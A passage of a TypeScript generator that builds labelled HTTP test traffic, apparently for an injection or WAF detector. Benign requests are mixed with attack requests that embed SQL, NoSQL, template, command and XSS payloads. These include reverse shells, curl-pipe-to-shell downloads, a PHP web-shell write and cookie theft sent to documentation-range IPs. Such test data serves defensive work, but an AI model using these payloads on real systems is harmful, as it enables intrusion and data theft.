          'stop_id,stop_name,stop_lat,stop_lon\n1102,"Main St & 5th Ave",40.7411,-73.9897\n1103,"5th Ave / 14th St",40.7365,-73.9925\n',
      },
    ],
    () => [
      '/api/returns/photos',
      { orderId: `FS-${int(100000, 999999)}`, note: 'Seam defect on left sleeve' },
      { name: 'photo', filename: 'IMG_2291.HEIC', type: 'image/heic', content: `ftypheic${hex(48)}` },
    ],
    () => [
      `/api/assignments/${int(1000, 9999)}/upload`,
      { studentId: uuid() },
      {
        name: 'work',
        filename: 'my_essay.txt',
        type: 'text/plain',
        content: 'My summer vacation. We went to the lake & I caught a fish that was "this big". The end.',
      },
    ],
    () => [
      `/api/incidents/INC-${int(1000, 9999)}/attachments`,
      { kind: 'log-excerpt' },
      {
        name: 'file',
        filename: 'ledger-writer.log',
        type: 'text/plain',
        content: `${isoTime()} ERROR pool exhausted: 500/500 connections in use\n${isoTime()} WARN retrying txn 8812 (attempt 3)\n`,
      },
    ],
    () => [
      `/api/outages/OUT-${int(10000, 99999)}/docs`,
      { docType: 'switching-order' },
      {
        name: 'file',
        filename: 'SO-2291.pdf',
        type: 'application/pdf',
        content: `%PDF-1.7\n%${hex(8)}\n1 0 obj << /Type /Catalog >> endobj`,
      },
    ],
  ];
  for (let i = 0; i < 26; i++) {
    const [p, fields, file] = pick(makers)();
    const boundary = `----WebKitFormBoundary${b64url(hex(12)).slice(0, 16)}`;
    let body = '';
    for (const [k, v] of Object.entries(fields))
      body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${file.name}"; filename="${file.filename}"\r\nContent-Type: ${file.type}\r\n\r\n${file.content}\r\n--${boundary}--\r\n`;
    addClean(
      'multipart',
      'POST',
      p,
      baseHeaders({ 'content-type': `multipart/form-data; boundary=${boundary}` }),
      body,
    );
  }
}

function genNdjson(): void {
  const makers: Array<() => [string, () => Json]> = [
    () => [
      '/api/scada/ingest',
      () => ({
        tag: pick(['SUB7.XFMR1.OIL_TEMP', 'WF3.T12.WIND_SPD', 'PLANT2.BOILER.TT-104.PV']),
        ts: isoTime(),
        v: Number((rnd() * 500).toFixed(3)),
        q: pick(['GOOD', 'UNCERTAIN', 'BAD_COMM']),
      }),
    ],
    () => [
      '/gtfs-rt/vehicle-positions/bulk',
      () => ({
        vehicle: { id: String(int(1000, 9999)) },
        trip: { trip_id: `T${int(10000, 99999)}`, route_id: pick(['42', 'B63']) },
        position: { latitude: 40 + rnd(), longitude: -74 + rnd(), bearing: int(0, 359) },
        timestamp: 1780000000 + int(0, 9999),
      }),
    ],
    () => [
      '/v1/variants/bulk',
      () => ({
        chrom: `chr${int(1, 22)}`,
        pos: int(10000, 90000000),
        ref: pick(['A', 'C', 'G', 'T']),
        alt: pick(['A', 'C', 'G', 'T', 'AT', '-']),
        qual: int(20, 99),
        info: { DP: int(10, 80), AF: Number(rnd().toFixed(3)) },
      }),
    ],
    () => [
      '/api/incidents/events',
      () => ({ at: isoTime(), source: pick(['pagerduty', 'datadog', 'slack']), text: pick(SRE_NOTES) }),
    ],
    () => [
      '/api/audit/chart-events',
      () => ({
        at: isoTime(),
        user: pick(['hyg.amy', 'dr.natarajan']),
        action: pick(['chart.update', 'xray.view', 'claim.submit']),
        note: pick(TOOTH_NOTES),
      }),
    ],
  ];
  for (let i = 0; i < 24; i++) {
    const [p, row] = pick(makers)();
    const n = int(2, 6);
    const lines: string[] = [];
    for (let k = 0; k < n; k++) lines.push(JSON.stringify(row()));
    addClean('ndjson', 'POST', p, jsonHeaders('application/x-ndjson'), `${lines.join('\n')}\n`);
  }
}

function genDelete(): void {
  const makers: Array<() => string> = [
    () => `/v2/appointments/${uuid()}?${qs({ reason: 'patient-cancelled', notify: true })}`,
    () => `/api/markets/da/bids/${uuid()}`,
    () => `/api/runbooks/${uuid()}/steps/${int(0, 9)}`,
    () => `/v1/lots/${int(1, 450)}/bids/${uuid()}?${qs({ reason: 'duplicate paddle' })}`,
    () => `/api/cart/items/${hex(10)}`,
    () => `/v1/runs/${uuid()}?${qs({ purge_work_dir: true })}`,
    () => `/api/service-alerts/${int(10000, 99999)}`,
    () => `/api/assignments/${int(1000, 9999)}/submissions/${uuid()}`,
  ];
  for (let i = 0; i < 24; i++) addClean('delete', 'DELETE', pick(makers)(), baseHeaders());
}

function genCmsHtml(): void {
  const docs: Array<() => [string, Json]> = [
    () => [
      `/v1/lots/${int(1, 450)}/essay`,
      {
        title: 'Catalogue note',
        content: {
          html: `<h2>A rare ${pick(['Qing dynasty', 'Georgian', 'Art Deco'])} piece</h2><p>This <em>exceptional</em> example, <a href="https://archive.example.org/provenance/${int(100, 999)}" target="_blank" rel="noopener">first recorded in 1887</a>, remained in the same family for four generations.</p><ul><li>Height: 34 cm</li><li>Mark: six-character <strong>Qianlong</strong> seal</li></ul><blockquote>“One of the finest of its type.” — <cite>Burlington Magazine</cite></blockquote>`,
          format: 'html',
        },
      },
    ],
    () => [
      `/api/products/${hex(6)}/description`,
      {
        locale: 'en-GB',
        content: {
          html: `<p>Relaxed-fit linen shirt in <span style="color:#8a9a5b">sage</span>.</p><table class="size-guide"><thead><tr><th>Size</th><th>Chest (cm)</th><th>Length (cm)</th></tr></thead><tbody><tr><td>S</td><td>96</td><td>72</td></tr><tr><td>M</td><td>102</td><td>74</td></tr></tbody></table><p><img src="https://cdn.shop.example/img/${hex(10)}.webp" alt="Model is 183 cm wearing M" loading="lazy" width="600"></p>`,
        },
      },
    ],
    () => [
      `/api/service-alerts/${int(10000, 99999)}/page`,
      {
        content: {
          html: `<div class="alert alert-warning" role="alert"><strong>Route 42 detour</strong> from ${isoDate()}: buses will use <a href="/maps/detour-42.pdf">Main St</a>. <br>Questions? Call <a href="tel:+15551234567">555-123-4567</a>.</div>`,
        },
      },
    ],
    () => [
      `/api/runbooks/${uuid()}/page`,
      {
        content: {
          html: `<h3>Step 4 – Fail over the primary</h3><p>Run <code>patronictl switchover --master pg-0 --candidate pg-1</code> and watch <code>SELECT pg_is_in_recovery();</code> on both.</p><pre><code class="language-bash">kubectl -n db exec -it pg-1 -- psql -c "select now() - pg_last_xact_replay_timestamp();"</code></pre><p><mark>Do not</mark> delete the PVC.</p>`,
        },
        version: int(2, 30),
      },
    ],
    () => [
      `/v2/practice/newsletter`,
      {
        subject: 'Your smile, this spring 🌸',
        content: {
          html: `<p>Hi {{first_name}},</p><p>It's been 6 months since your last cleaning — <a href="https://book.smilecare.example/?utm_source=email&amp;utm_campaign=recall">book your recall</a> today!</p><p style="font-size:12px">SmileCare Dental · 12 Elm St · <a href="{{unsubscribe_url}}">Unsubscribe</a></p>`,
        },
      },
    ],
    () => [
      `/api/classes/${int(100, 999)}/announcements`,
      {
        content: {
          html: `<p>Reminder: <b>Chapter 7 quiz</b> on Friday! Review <a href="https://www.khanacademy.org/math/algebra">linear equations</a>.</p><ol><li>Solve for <i>x</i>: 2x + 3 &lt; 11</li><li>Graph y = -x + 4</li></ol>`,
        },
      },
    ],
  ];
  for (let i = 0; i < 28; i++) {
    const [p, b] = pick(docs)();
    addClean('cms-html', pick(['PUT', 'POST']), p, jsonHeaders(), JSON.stringify(b));
  }
}

function genCode(): void {
  const snippets: Array<() => [string, Json]> = [
    () => [
      '/api/homework/code-submissions',
      {
        assignment: 'loops-1',
        language: 'python',
        snippet: {
          language: 'python',
          source:
            "total = 0\nfor i in range(1, 11):\n    total += i\nprint('The sum is', total)\n# teacher said use while loop next time\n",
        },
      },
    ],
    () => [
      '/api/homework/code-submissions',
      {
        assignment: 'intro-js',
        language: 'javascript',
        snippet: {
          language: 'javascript',
          source:
            "const name = prompt('What is your name?');\nif (name === '') {\n  alert('You did not type anything!');\n} else {\n  document.getElementById('out').innerHTML = '<b>Hello ' + name + '</b>';\n}\n",
        },
      },
    ],
    () => [
      '/api/homework/code-submissions',
      {
        assignment: 'scratch-to-py',
        language: 'python',
        snippet: {
          language: 'python',
          source:
            'import os\nimport random\nsecret = random.randint(1, 100)\nguess = int(input("Guess: "))\nwhile guess != secret:\n    print("higher" if guess < secret else "lower")\n    guess = int(input("Guess: "))\nos.system("clear")\n',
        },
      },
    ],
    () => [
      `/api/runbooks/${uuid()}/snippets`,
      {
        title: 'Find slow queries',
        snippet: {
          language: 'sql',
          source:
            "SELECT pid, now() - query_start AS dur, left(query, 120)\nFROM pg_stat_activity\nWHERE state <> 'idle' AND now() - query_start > interval '30 seconds'\nORDER BY dur DESC;\n-- then: SELECT pg_cancel_backend(<pid>);\n",
        },
      },
    ],
    () => [
      `/api/runbooks/${uuid()}/snippets`,
      {
        title: 'Rotate logs & restart',
        snippet: {
          language: 'bash',
          source:
            '#!/usr/bin/env bash\nset -euo pipefail\nfor h in $(cat hosts.txt); do\n  ssh "$h" "sudo logrotate -f /etc/logrotate.d/nginx && sudo systemctl reload nginx" || echo "failed on $h" >&2\ndone\ncurl -fsS https://hc-ping.example/$(hostname)\n',
        },
      },
    ],
    () => [
      `/v1/pipelines/${uuid()}`,
      {
        name: 'wgs-germline',
        workflow: {
          engine: 'nextflow',
          script:
            'process BWA_MEM2 {\n  tag "${meta.id}"\n  cpus 16\n  input:\n    tuple val(meta), path(reads)\n  output:\n    tuple val(meta), path(\'*.bam\')\n  script:\n  """\n  bwa-mem2 mem -t ${task.cpus} -R \'@RG\\tID:${meta.id}\\tSM:${meta.id}\' ${params.index} ${reads} | samtools sort -@4 -o ${meta.id}.bam -\n  """\n}\n',
        },
        params: { genome: 'GRCh38', outdir: 's3://results/wgs/' },
      },
    ],
    () => [
      `/v1/pipelines/${uuid()}`,
      {
        name: 'cromwell-align',
        workflow: {
          engine: 'wdl',
          script:
            'version 1.0\ntask align {\n  input { File r1  File r2  String sample }\n  command <<<\n    bwa mem -t 8 ref.fa ~{r1} ~{r2} > ~{sample}.sam\n  >>>\n  runtime { docker: "biocontainers/bwa:v0.7.17" memory: "16 GB" }\n}\n',
        },
      },
    ],
    () => [
      `/api/feeds/${pick(['mta', 'ttc'])}/config`,
      {
        snippet: {
          language: 'yaml',
          source:
            'feeds:\n  - id: trip-updates\n    url: https://gtfsrt.transit.example/tripupdates?key=${API_KEY}\n    poll: 15s\n  - id: alerts\n    url: https://gtfsrt.transit.example/alerts\n# TODO(ops): switch to protobuf once parser is fixed\n',
        },
      },
    ],
    () => [
      `/api/scada/rules`,
      {
        name: 'oil-temp-high',
        snippet: {
          language: 'python',
          source:
            "def evaluate(tags):\n    t = tags['SUB7.XFMR1.OIL_TEMP']\n    if t.value > 95 and t.quality == 'GOOD':\n        return Alarm(level='HIGH', msg=f'Oil temp {t.value:.1f} C')\n    return None\n",
        },
      },
    ],
  ];
  for (let i = 0; i < 30; i++) {
    const [p, b] = pick(snippets)();
    addClean('code', pick(['POST', 'PUT']), p, jsonHeaders(), JSON.stringify(b));
  }
}

function genProse(): void {
  const texts = [
    'Essay: Why I think school should start later. Teenagers need about 9 hours of sleep, and when we wake up at 6am we are tired. Some people say "just go to bed earlier" but that does not work for everyone; I tried it.',
    "Please select the union rep's name from the drop-down before you submit the form. If you can't find it, insert a note and we'll update the table.",
    "Pt asked whether the old amalgam fillings contain mercury and wants them all removed; explained risks/benefits, she will decide after her sister's wedding (June 14).",
    'Trader desk note: bids for HE17–HE20 were executed at $142.50/MWh; we should drop the exec script earlier next time and not wait for the union of both feeds.',
    'Incident retro: the root cause was a cron job running `rm -rf /tmp/cache/*` on the wrong host. Action items: add a guard, kill the legacy script, and alert on exec failures.',
    '1880s Victorian mourning brooch with plaited hair under glass, inscribed "In memory of W.H. ob. 1884". Slight wear to the gilding; pin and C-catch original.',
    'Das Kleid fällt etwas kleiner aus. Ich habe 40 statt 38 bestellt und es passt super. Rücksendung war kostenlos. 👍',
    'Bonjour, la ligne 4 est-elle perturbée ce matin ? J’attends à Châtelet depuis 20 min et aucune annonce…',
    '患者は左下の奥歯に痛みを訴えています。冷たい飲み物でしみるとのこと。次回レントゲン撮影予定。',
    'Результаты секвенирования образца S1042 готовы: покрытие 34x, доля дубликатов 9,8 %. Варианты переданы на аннотацию.',
    'مرحباً، أود إرجاع الحذاء لأن المقاس صغير جداً. رقم الطلب FS-448120.',
    'मेरे बेटे का होमवर्क: 12 × 8 = 96, और 144 ÷ 12 = 12. कृपया जाँच करें।',
    'Lot 212 — “Where are the others?” asked the auctioneer; the room laughed & the hammer fell at £48,000 (£60,480 incl. premium).',
    'Reminder to self: grep the logs for "OR 1=1" only happens in the pentest report, not in prod; the WAF ticket is JIRA SEC-4412.',
    "Can somebody tell me what `SELECT * FROM students WHERE grade > 90` means? My teacher said it's like a filter for a table 🤔",
    'Transit tip: the 7 train is express from Queensboro Plaza to 74 St–Broadway after 9:30pm; otherwise take the local & transfer.',
    'Operator log 02:14 — Breaker 52-T1 opened on overcurrent; script /opt/ems/bin/restore.sh was NOT executed. Waiting for field crew confirmation before closing.',
    'My grandma’s recipe says “a pinch of salt; drop in the eggs one at a time” — we used it for the fractions homework (¾ cup flour × 2 = 1½ cups).',
    'Returning item: ordered the "Delete Me Not" tote (lol) in cream, arrived in beige. Would like an exchange, not a refund.',
    'Nota clínica: paciente con bruxismo; se indica férula de descarga. Próxima cita: 12/03 a las 10:30.',
  ];
  const makers: Array<(t: string) => [string, Json]> = [
    (t) => [
      `/api/assignments/${int(1000, 9999)}/essays`,
      { studentId: uuid(), title: 'My essay', text: t, wordCount: t.split(/\s+/).length },
    ],
    (t) => [
      `/api/incidents/INC-${int(1000, 9999)}/notes`,
      { author: 'maya.k', body: t, visibility: 'internal' },
    ],
    (t) => [
      '/api/reviews',
      {
        productId: hex(8),
        rating: int(1, 5),
        body: t,
        reviewer: { name: pick(PATIENT_NAMES), verified: true },
      },
    ],
    (t) => [`/v2/patients/${uuid()}/notes`, { type: 'clinical', body: t, signedBy: 'Dr. Priya Natarajan' }],
    (t) => [
      '/api/feedback/transit',
      { route: pick(['42', '4', 'L']), message: t, contact: `rider${int(1, 999)}@mail.example` },
    ],
    (t) => [`/v1/lots/${int(1, 450)}/comments`, { text: t, lang: 'auto' }],
  ];
  for (let i = 0; i < 34; i++) {
    const t = texts[i % texts.length] as string;
    const [p, b] = pick(makers)(t);
    addClean('prose', 'POST', p, jsonHeaders(), JSON.stringify(b));
  }
}

function genSearch(): void {
  const terms = [
    'crown #30 porcelain',
    'D2740 fee schedule 2026',
    "O'Brien",
    'outage 138kV west knox',
    'HE18 bids > $100',
    'runbook: restart ledger-writer',
    'select count error pg pool',
    'kubectl rollout undo',
    'George III silver',
    'Patek 3970 "perpetual calendar"',
    'Banksy -print',
    'linear equations worksheet grade 8',
    'python for loop',
    'linen shirt size M sage',
    'wide leg jeans 32/30',
    'ワンピース 黒',
    'BRCA1 c.68_69delAG',
    'chr7:117559590 CFTR',
    'route 42 detour',
    'Châtelet → La Défense',
    '東京駅 丸の内',
    'drop-off times',
    'union square elevator',
    'script & style guide',
  ];
  const bases = [
    '/v2/search',
    '/api/search',
    '/v1/search',
    '/api/products/search',
    '/api/stops/search',
    '/api/runbooks/search',
  ];
  for (let i = 0; i < 36; i++) {
    const q = terms[i % terms.length] as string;
    const params: Record<string, string | number> = { q };
    if (chance(0.5)) params.page = int(1, 5);
    if (chance(0.4)) params.sort = pick(['relevance', '-date', 'price']);
    if (chance(0.3)) params.lang = pick(['en', 'ja', 'fr', 'de']);
    addClean('search', 'GET', `${pick(bases)}?${qs(params)}`, baseHeaders());
  }
}

// ---------------------------------------------------------------------------------------------------------
// Attacks: payloads per family and the carriers that hide them.
// ---------------------------------------------------------------------------------------------------------

type Payload = readonly [technique: string, payload: string];

/** Escapes every character of `s` that is not alphanumeric as a JSON \u sequence. */
function uEscapeAll(s: string): string {
  let out = '';
  for (const ch of s) {
    const c = ch.codePointAt(0) ?? 0;
    out += /[A-Za-z0-9 ]/.test(ch) ? ch : `\\u${c.toString(16).padStart(4, '0')}`;
  }
  return out;
}

/** Escapes a subset of letters of `s` as JSON \u sequences (keeps the rest JSON-escaped). */
function uEscapeSome(s: string): string {
  const inner = JSON.stringify(s).slice(1, -1);
  return inner.replace(/\\.|[<>'()=sSeEcCtT]/g, (m) =>
    m.length === 2 ? m : `\\u${(m.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
  );
}

const MARK = '__H25_PAYLOAD__';
/** Serialises `obj`, then swaps the quoted placeholder for a raw, already-escaped JSON string literal. */
function withRaw(obj: Json, rawInner: string): string {
  return JSON.stringify(obj).replace(`"${MARK}"`, `"${rawInner}"`);
}

type Carrier = (family: string, technique: string, payload: string) => void;

/** Carriers usable by every family; `idx` rotates among them. */
function genericCarriers(): Carrier[] {
  return [
    // nested JSON field
    (f, t, p) =>
      addAttack(
        f,
        `${t}; nested JSON field`,
        'POST',
        '/v2/claims',
        jsonHeaders(),
        JSON.stringify({
          claimType: 'ADA-2019',
          subscriber: { id: `W${int(100000000, 999999999)}`, name: p },
          lines: [{ cdt: 'D0120', fee: '45.00' }],
        }),
      ),
    // array element
    (f, t, p) =>
      addAttack(
        f,
        `${t}; JSON array element`,
        'POST',
        '/api/markets/da/bids',
        jsonHeaders(),
        JSON.stringify({
          portfolio: 'WEST-THERMAL',
          node: 'HB_NORTH',
          tags: ['peak', p, 'firm'],
          curve: [{ mw: 50, price: 31.2 }],
        }),
      ),
    // \u-escaped in JSON
    (f, t, p) =>
      addAttack(
        f,
        `${t}; \\u-escaped JSON string`,
        'POST',
        `/api/incidents/INC-${int(1000, 9999)}/timeline`,
        jsonHeaders(),
        withRaw({ author: 'dmitri', type: 'comment', text: MARK }, uEscapeSome(p)),
      ),
    // query string
    (f, t, p) =>
      addAttack(
        f,
        `${t}; query string`,
        'GET',
        `/v1/auctions/AUC-2026-LDN-11/lots?${qs({ category: 'watches', q: p, page: 1 })}`,
        baseHeaders(),
      ),
    // GraphQL variables
    (f, t, p) =>
      addAttack(
        f,
        `${t}; GraphQL variable`,
        'POST',
        '/graphql',
        jsonHeaders(),
        JSON.stringify({
          operationName: 'VariantLookup',
          query:
            'query VariantLookup($gene: String!, $hgvs: String) { variants(gene: $gene, hgvs: $hgvs) { id consequence } }',
          variables: { gene: 'BRCA1', hgvs: p },
        }),
      ),
    // JSON inside a string field
    (f, t, p) =>
      addAttack(
        f,
        `${t}; JSON document inside a string field`,
        'POST',
        '/api/scada/rules',
        jsonHeaders(),
        JSON.stringify({ name: 'oil-temp-high', metadata: JSON.stringify({ owner: 'grid-ops', filter: p }) }),
      ),
    // base64 field
    (f, t, p) =>
      addAttack(
        f,
        `${t}; base64 field the API decodes`,
        'POST',
        '/v1/samples',
        jsonHeaders(),
        JSON.stringify({
          sampleId: `S${int(1000, 9999)}`,
          project: 'WGS-COHORT-B',
          sampleSheetB64: b64(`sample,notes\nS1042,${p}\n`),
          encoding: 'base64',
        }),
      ),
    // header
    (f, t, p) =>
      addAttack(
        f,
        `${t}; custom header`,
        'GET',
        `/gtfs-rt/trip-updates?route_id=42`,
        baseHeaders({ 'x-client-note': p }),
      ),
    // merge patch
    (f, t, p) =>
      addAttack(
        f,
        `${t}; merge-patch field`,
        'PATCH',
        `/v2/patients/${uuid()}`,
        jsonHeaders('application/merge-patch+json'),
        JSON.stringify({ preferredName: p, phone: '+1-555-201-3344' }),
      ),
    // form
    (f, t, p) =>
      addAttack(
        f,
        `${t}; form field`,
        'POST',
        '/api/chatops/slack/commands',
        baseHeaders({ 'content-type': 'application/x-www-form-urlencoded' }),
        new URLSearchParams({ command: '/runbook', user_name: 'oncall', text: p }).toString(),
      ),
  ];
}

function fill(family: string, payloads: readonly Payload[], carriers: Carrier[]): void {
  const stride = carriers.length % 7 === 0 ? 5 : 7;
  for (let i = 0; i < 30; i++) {
    const pl = payloads[i % payloads.length] as Payload;
    const c = carriers[(i * stride + Math.floor(i / payloads.length)) % carriers.length] as Carrier;
    c(family, pl[0], pl[1]);
  }
}

function genSql(): void {
  const payloads: Payload[] = [
    ['tautology', "' OR '1'='1' -- "],
    ['union select', "x' UNION SELECT username, password_hash FROM users--"],
    ['stacked query', '1; DROP TABLE claims; --'],
    ['time-based blind', "1' AND SLEEP(5)-- -"],
    ['pg time-based blind', "1' || pg_sleep(10)--"],
    ['inline comment evasion', "1'/**/UnIoN/**/SeLeCt/**/null,version()--"],
    ['error-based extractvalue', "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- "],
    ['boolean blind substring', "BRCA1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a"],
    ['mssql waitfor', "'; WAITFOR DELAY '0:0:5'--"],
    [
      'order by probing',
      "name ASC, (CASE WHEN (SELECT 1 FROM pg_user WHERE usename='postgres')=1 THEN 1 ELSE 1/0 END)",
    ],
    ['numeric tautology', '0 or 1=1'],
    ['into outfile', "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- "],
    ['hex-encoded string', '1 UNION SELECT 0x61646d696e, load_file(0x2f6574632f706173737764)'],
    ['sqlite schema dump', "' UNION SELECT sql, name FROM sqlite_master--"],
    [
      'information_schema enumeration',
      "-1' union all select table_name,column_name from information_schema.columns where table_schema=database()#",
    ],
  ];
  const extra: Carrier[] = [
    (f, t, p) =>
      addAttack(
        f,
        `${t}; sort parameter`,
        'GET',
        `/v1/variants?${qs({ gene: 'TP53', sort: p })}`,
        baseHeaders(),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; JSON:API filter`,
        'GET',
        `/jsonapi/trips?${qs({ 'filter[route]': p, 'page[size]': 20 })}`,
        baseHeaders({ accept: 'application/vnd.api+json' }),
      ),
  ];
  fill('sql', payloads, [...genericCarriers(), ...extra]);
}

function genNosql(): void {
  const carriers: Carrier[] = [
    (f, t, p) => addAttack(f, t, 'POST', '/login', jsonHeaders(), p),
    (f, t, p) => addAttack(f, t, 'POST', '/v1/variants/query', jsonHeaders(), p),
    (f, t, p) => addAttack(f, t, 'POST', '/api/products/find', jsonHeaders(), p),
  ];
  const bodies: Payload[] = [
    [
      '$ne operator login bypass',
      JSON.stringify({ username: 'front.desk@smilecare.example', password: { $ne: null } }),
    ],
    ['$gt operator login bypass', JSON.stringify({ username: { $gt: '' }, password: { $gt: '' } })],
    ['$regex credential probing', JSON.stringify({ username: 'admin', password: { $regex: '^a.*' } })],
    ['$where JavaScript sleep', JSON.stringify({ filter: { $where: 'sleep(5000) || true' } })],
    [
      '$where this.password match',
      JSON.stringify({ filter: { $where: 'this.password.match(/^p/) != null' } }),
    ],
    [
      '$expr function',
      JSON.stringify({
        filter: {
          $expr: { $function: { body: 'function(){ sleep(3000); return true; }', args: [], lang: 'js' } },
        },
      }),
    ],
    [
      '$or nested always-true',
      JSON.stringify({ sampleId: 'S1042', filter: { $or: [{ owner: 'me' }, { _id: { $exists: true } }] } }),
    ],
    [
      '$lookup pipeline exfil',
      JSON.stringify({
        pipeline: [
          { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'u' } },
          { $project: { 'u.password': 1 } },
        ],
      }),
    ],
    ['\\u-escaped $ne key', '{"username":"admin","password":{"\\u0024ne":"x"}}'],
    [
      '$in with everything',
      JSON.stringify({ username: { $in: ['admin', 'root', 'dr.natarajan'] }, password: { $nin: [''] } }),
    ],
    [
      'nested in array elements',
      JSON.stringify({
        items: [
          { sku: 'DRS-1', qty: 1 },
          { sku: { $ne: '' }, qty: { $gt: 0 } },
        ],
      }),
    ],
    [
      'JSON inside string field',
      JSON.stringify({ q: JSON.stringify({ gene: 'BRCA1', owner: { $ne: null } }) }),
    ],
    [
      '$accumulator server-side JS',
      JSON.stringify({
        pipeline: [
          {
            $group: {
              _id: 1,
              x: {
                $accumulator: {
                  init: 'function(){return db.getSiblingDB("admin")}',
                  accumulate: 'function(s){return s}',
                  accumulateArgs: [],
                  merge: 'function(a){return a}',
                  lang: 'js',
                },
              },
            },
          },
        ],
      }),
    ],
    [
      'mapReduce function',
      JSON.stringify({
        mapReduce: 'lots',
        map: 'function(){emit(this._id, this.reserve)}',
        reduce: 'function(k,v){return Array.sum(v)}',
        out: { inline: 1 },
      }),
    ],
    ['$regex ReDoS', JSON.stringify({ name: { $regex: '(a+)+$', $options: 'i' } })],
  ];
  const qsPayloads: Payload[] = [
    ['bracket $ne in query string', '/login?username=admin&password[$ne]=x'],
    ['bracket $gt in query string', '/api/products?price[$gt]=0&owner[$ne]=nobody'],
    ['bracket $regex in query string', '/api/users?email[$regex]=.*%40smilecare&active=true'],
    ['bracket $where in query string', '/v1/runs?filter[$where]=sleep(5000)'],
    ['percent-encoded bracket operator', '/v1/lots?reserve%5B%24exists%5D=false&seller%5B%24ne%5D=x'],
  ];
  for (let i = 0; i < 30; i++) {
    if (i % 6 === 5) {
      const q = qsPayloads[Math.floor(i / 6) % qsPayloads.length] as Payload;
      addAttack('nosql', q[0], 'GET', q[1], baseHeaders());
    } else {
      const b = bodies[(i - Math.floor(i / 6)) % bodies.length] as Payload;
      (carriers[i % carriers.length] as Carrier)('nosql', b[0], b[1]);
    }
  }
}

function genTemplate(): void {
  const payloads: Payload[] = [
    ['Jinja2 config class walk', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    ['Jinja2 os.popen via cycler', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
    ['Jinja2 lipsum globals', "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"],
    [
      'Jinja2 request attr filter bypass',
      "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    ],
    ['Twig filter callback', "{{['id']|filter('system')}}"],
    [
      'Twig registerUndefinedFilterCallback',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    ],
    ['Freemarker Execute', '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }'],
    ['Velocity runtime exec', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))'],
    ['Spring EL T() runtime', '${T(java.lang.Runtime).getRuntime().exec("curl http://203.0.113.7/x")}'],
    ['Thymeleaf preprocessing', '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x'],
    ['ERB system', '<%= system("cat /etc/passwd") %>'],
    [
      'Handlebars constructor chain',
      '{{#with "s" as |string|}}{{#with string.constructor}}{{this.call "return process.mainModule.require(\'child_process\').execSync(\'id\')"}}{{/with}}{{/with}}',
    ],
    ['Pug/Jade inline code', "#{global.process.mainModule.require('child_process').execSync('id')}"],
    ['Mako import', '<%import os%>${os.popen("id").read()}'],
    ['Smarty php function', '{system("id")}'],
  ];
  fill('template', payloads, genericCarriers());
}

function genCommand(): void {
  const payloads: Payload[] = [
    ['semicolon chaining', 'ledger-writer; cat /etc/passwd'],
    ['command substitution $()', 'restart $(curl -s http://203.0.113.9/x.sh | sh)'],
    ['backtick substitution', 'checkout `id`'],
    ['pipe to shell', 'run backup | bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'],
    ['&& chaining with wget', 'S1042 && wget -qO- http://203.0.113.9/m | sh'],
    ['IFS space evasion', 'x;cat${IFS}/etc/shadow'],
    ['newline injection', 'nginx\nnc -e /bin/sh 198.51.100.4 9001'],
    ['quote-split evasion', "a; c'a't /e't'c/pa''sswd"],
    ['brace expansion', ';{cat,/etc/passwd}'],
    ['wildcard path evasion', '| /???/c?t /???/p??s??'],
    [
      'python reverse shell',
      'x; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.4",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    ],
    [
      'powershell encoded',
      '& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ],
    ['cmd.exe chaining', 'report.pdf & type C:\\Windows\\win.ini'],
    ['OR-chained fallback', 'fastqc || curl http://203.0.113.9/`whoami`'],
    ['process substitution', 'sample.bam <(nc 198.51.100.4 80 -e /bin/bash)'],
  ];
  const extra: Carrier[] = [
    (f, t, p) =>
      addAttack(
        f,
        `${t}; pipeline param`,
        'POST',
        '/v1/runs',
        jsonHeaders(),
        JSON.stringify({
          pipeline: 'nf-core/sarek',
          params: { tools: 'haplotypecaller', extra_args: `--pe ${p}` },
          profile: 'docker',
        }),
      ),
    (f, t, p) =>
      addAttack(
        f,
        `${t}; runbook step arg`,
        'POST',
        `/api/runbooks/${uuid()}/execute`,
        jsonHeaders(),
        JSON.stringify({ step: 3, args: { service: p, env: 'prod' }, dryRun: false }),
      ),
  ];
  fill('command', payloads, [...genericCarriers(), ...extra]);
}

function genXss(): void {
  const payloads: Payload[] = [
    ['script tag', '<script>fetch("https://203.0.113.7/c?"+document.cookie)</script>'],
    ['img onerror', '<img src=x onerror=alert(document.domain)>'],
    ['svg onload', '<svg/onload=alert`1`>'],
    ['javascript: URL', 'javascript:alert(document.cookie)//'],
    ['iframe srcdoc', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
    ['details ontoggle', '<details open ontoggle=eval(atob("YWxlcnQoMSk="))>'],
    ['mixed case + tab evasion', '<ScRiPt\t>confirm(1)</sCrIpT>'],
    ['attribute breakout', '" autofocus onfocus="alert(1)" x="'],
    ['entity-encoded javascript URL', '<a href="&#106;avascript:alert(1)">size chart</a>'],
    ['body onload', '<body onload=import("//203.0.113.7/x.js")>'],
    ['math/xlink href', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    [
      'data: URL script',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    ],
    ['video source onerror', '<video><source onerror="location=\'//203.0.113.7/?\'+document.cookie">'],
    ['js context breakout', "';alert(String.fromCharCode(88,83,83));//"],
